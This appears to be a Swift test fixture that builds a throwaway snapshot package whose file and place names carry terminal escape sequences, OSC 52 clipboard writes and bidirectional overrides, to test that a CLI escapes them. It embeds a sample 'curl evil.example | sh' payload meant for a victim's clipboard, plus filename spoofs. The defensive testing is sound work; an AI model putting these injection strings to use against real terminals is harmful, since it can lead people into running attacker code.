import Foundation
import TextSnapshots

/// A throwaway package whose every name is hostile, for the tests that run each command
/// on it and check that nothing reaches the terminal raw: goldens, pending files, a
/// skipped folder, an inline snapshot's test file and a recorded run named with ESC and
/// OSC 52 sequences, C1 controls, CR, BS, a line feed and bidirectional overrides; and,
/// beside the package, a data source whose places are named the same way.
///
/// ```swift
/// let package = try HostilePackage()
/// defer { package.remove() }
/// let result = try await Stratus.run(["snapshots", "status", "--package-path", package.root.path])
/// ```
struct HostilePackage {
  /// What an OSC 52 sequence in a name would put on the clipboard.
  static let attackerText = "curl evil.example | sh"
  /// An OSC 52 sequence that sets the clipboard to ``attackerText`` (ESC ] … BEL).
  static let clipboard = "\u{1B}]52;c;\(Data(attackerText.utf8).base64EncodedString())\u{07}"

  /// The names every kind of entry is given, one per thing a terminal obeys.
  static let names = [
    "esc\u{1B}[31mred",
    "osc52\(clipboard)",
    "c1csi\u{9B}31m",
    "c1osc\u{9D}52;c;\(Data(attackerText.utf8).base64EncodedString())\u{9C}",
    "cr\rX",
    "bs\u{8}Y",
    "nl\n  new     fake",
    "rlo\u{202E}txt.exe",
    "isolates\u{2066}a\u{2067}b\u{2068}c\u{2069}",
    "marks\u{200E}\u{200F}\u{61C}",
    "embeddings\u{202A}\u{202B}\u{202C}\u{202D}",
    "bom\u{FEFF}del\u{7F}nel\u{85}ls\u{2028}ps\u{2029}",
  ]

  /// A name holding a bit of everything, for single entries (the inline test file, the
  /// run, a place).
  static let mixed = "x\u{1B}[2J\u{9B}31m\u{202E}\u{2066}\r\n\u{8}y"

  /// The scratch folder holding `package/` and `source/`.
  let scratch: URL
  /// The package root.
  var root: URL { scratch.appendingPathComponent("package") }
  /// A data source folder (`--source file:…`) whose places have hostile names.
  var source: URL { scratch.appendingPathComponent("source") }
  /// The hostile id of the package's one complete, green run.
  static let run = "run\(mixed)"
  /// The inline snapshot's test file, relative to the root.
  static let inlineTestFile = "Tests/FakeTests/Fake\(clipboard)\u{202E}Suite.swift"
  /// The place `--location Springfield` finds in ``source``: its name is hostile.
  static let place = "Springfield\(mixed)"
  /// A place that ``source`` finds but has no forecast for, so the failure names it.
  static let placeWithoutForecast = "Nowhere\(mixed)"

  /// The path, relative to the root, of the golden named `name`.
  static func golden(_ name: String) -> String { "Snapshots/T/S/\(name).txt" }

  /// Makes the package: for every name, a golden and a changed `.new` beside it (the
  /// even ones) or a `.new` alone (the odd ones), a folder named like a `.new` (skipped),
  /// an inline snapshot's pending entry, and a green run that checked none of the
  /// goldens, so every golden is an orphan that `prune` deletes.
  init() throws {
    scratch = FileManager.default.temporaryDirectory
      .appendingPathComponent("stratus-hostile-package-\(UUID().uuidString)")
    let manager = FileManager.default
    try manager.createDirectory(
      at: root.appendingPathComponent("Snapshots/T/S"), withIntermediateDirectories: true)
    try write("// swift-tools-version: 6.0\n", to: "Package.swift")
    for (index, name) in Self.names.enumerated() {
      let golden = Self.golden(name)
      if index.isMultiple(of: 2) {
        try write("# stratus-snapshot 1 text 7x1\n|hello \(name.count)|\n", to: golden)
        try dateBack(golden, minutes: 60)
      }
      // The new rows hold controls too: a diff line must show them as well. A line feed
      // in a name starts a row of its own, as a test writes it, so `accept` takes it.
      try write(Snapshot(text: name).text, to: golden + ".new")
    }
    try manager.createDirectory(
      at: root.appendingPathComponent(Self.golden("skipped\(Self.mixed)") + ".new"),
      withIntermediateDirectories: true)
    try makeInlinePending()
    let runFolder = ".build/stratus-snapshots/runs/\(Self.run)"
    try manager.createDirectory(
      at: root.appendingPathComponent(runFolder), withIntermediateDirectories: true)
    try write("matched\tSnapshots/T/S/none.txt\n", to: "\(runFolder)/4242.ledger")
    try write("green\n", to: "\(runFolder)/complete")
    for file in ["\(runFolder)/4242.ledger", "\(runFolder)/complete", runFolder] {
      try dateBack(file, minutes: 30)
    }
    try makeSource()
  }

  /// Deletes the scratch folder.
  func remove() {
    try? FileManager.default.removeItem(at: scratch)
  }

  /// `["--package-path", root]`, to end a `snapshots` command line with.
  var packagePath: [String] { ["--package-path", root.path] }

  // MARK: - Making it

  /// A test file with one `assertInlineSnapshot` call, and the pending entry its failing
  /// check leaves, as `InlineSnapshotsCommandTests` makes them: the call's column is its
  /// `(`'s.
  private func makeInlinePending() throws {
    let file = root.appendingPathComponent(Self.inlineTestFile)
    try FileManager.default.createDirectory(
      at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
    let source = """
      import Testing

      @Test func views() {
        assertInlineSnapshot(of: view) {
          \"\"\"
          |old|
          \"\"\"
        }
      }

      """
    try Data(source.utf8).write(to: file)
    let message = InlineSnapshotAssertion.check(
      Snapshot(text: "|new\(Self.mixed)|"), expected: "|old|", mode: nil, testFile: file.path,
      line: 4, column: 23, environment: SnapshotEnvironment(variables: [:], isTerminal: false),
      session: SnapshotSession())
    guard FileManager.default.fileExists(atPath: file.path + ".pending-snapshots") else {
      throw HostilePackageError.noInlineEntry(message ?? "the check passed")
    }
  }

  /// `Examples/open-meteo`'s replies (every folder, so a new feed's replies come too),
  /// and geocoding replies that name a place near Toronto ``place`` and one far from any
  /// forecast ``placeWithoutForecast``.
  private func makeSource() throws {
    let examples = Stratus.packageRoot.appendingPathComponent("Examples/open-meteo")
    let manager = FileManager.default
    let kinds = try manager.contentsOfDirectory(atPath: examples.path).filter { name in
      var isFolder: ObjCBool = false
      return manager.fileExists(
        atPath: examples.appendingPathComponent(name).path, isDirectory: &isFolder)
        && isFolder.boolValue
    }
    for kind in kinds {
      let folder = source.appendingPathComponent(kind)
      try manager.createDirectory(at: folder, withIntermediateDirectories: true)
      for name in try manager.contentsOfDirectory(
        atPath: examples.appendingPathComponent(kind).path)
      {
        try Data(contentsOf: examples.appendingPathComponent("\(kind)/\(name)"))
          .write(to: folder.appendingPathComponent(name))
      }
    }
    let places: [[String: Any]] = [
      [
        "id": 1, "name": Self.place, "latitude": 43.70643, "longitude": -79.39864,
        "country": "Canada\(Self.mixed)", "admin1": "\u{202E}Ontario",
        "timezone": "America/Toronto",
      ],
      [
        "id": 2, "name": Self.placeWithoutForecast, "latitude": -60.0, "longitude": 120.0,
        "country": "Nowhere", "timezone": "UTC",
      ],
    ]
    for (name, place) in [("springfield", places[0]), ("nowhere", places[1])] {
      try JSONSerialization.data(withJSONObject: ["results": [place]])
        .write(to: source.appendingPathComponent("geocoding/\(name).json"))
    }
  }

  /// Writes `text` to the file at `path` with `open(2)` and `write(2)`.
  ///
  /// NB: not `Data.write(to:)`: once in three full runs it failed with EINVAL on a name
  /// holding a line feed (inside Foundation, not reproduced alone); the system calls take
  /// any name the file system does.
  private func write(_ text: String, to path: String) throws {
    let file = root.appendingPathComponent(path).path
    let descriptor = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0o644)
    guard descriptor >= 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
    defer { close(descriptor) }
    var bytes = Array(text.utf8)[...]
    while !bytes.isEmpty {
      let written = bytes.withUnsafeBytes { Foundation.write(descriptor, $0.baseAddress, $0.count) }
      if written < 0 && errno == EINTR { continue }
      guard written > 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
      bytes = bytes.dropFirst(written)
    }
  }

  private func dateBack(_ path: String, minutes: Double) throws {
    try FileManager.default.setAttributes(
      [.modificationDate: Date().addingTimeInterval(-minutes * 60)],
      ofItemAtPath: root.appendingPathComponent(path).path)
  }
}

enum HostilePackageError: Error {
  /// The inline snapshot's check left no pending entry to review; what it said.
  case noInlineEntry(String)
}
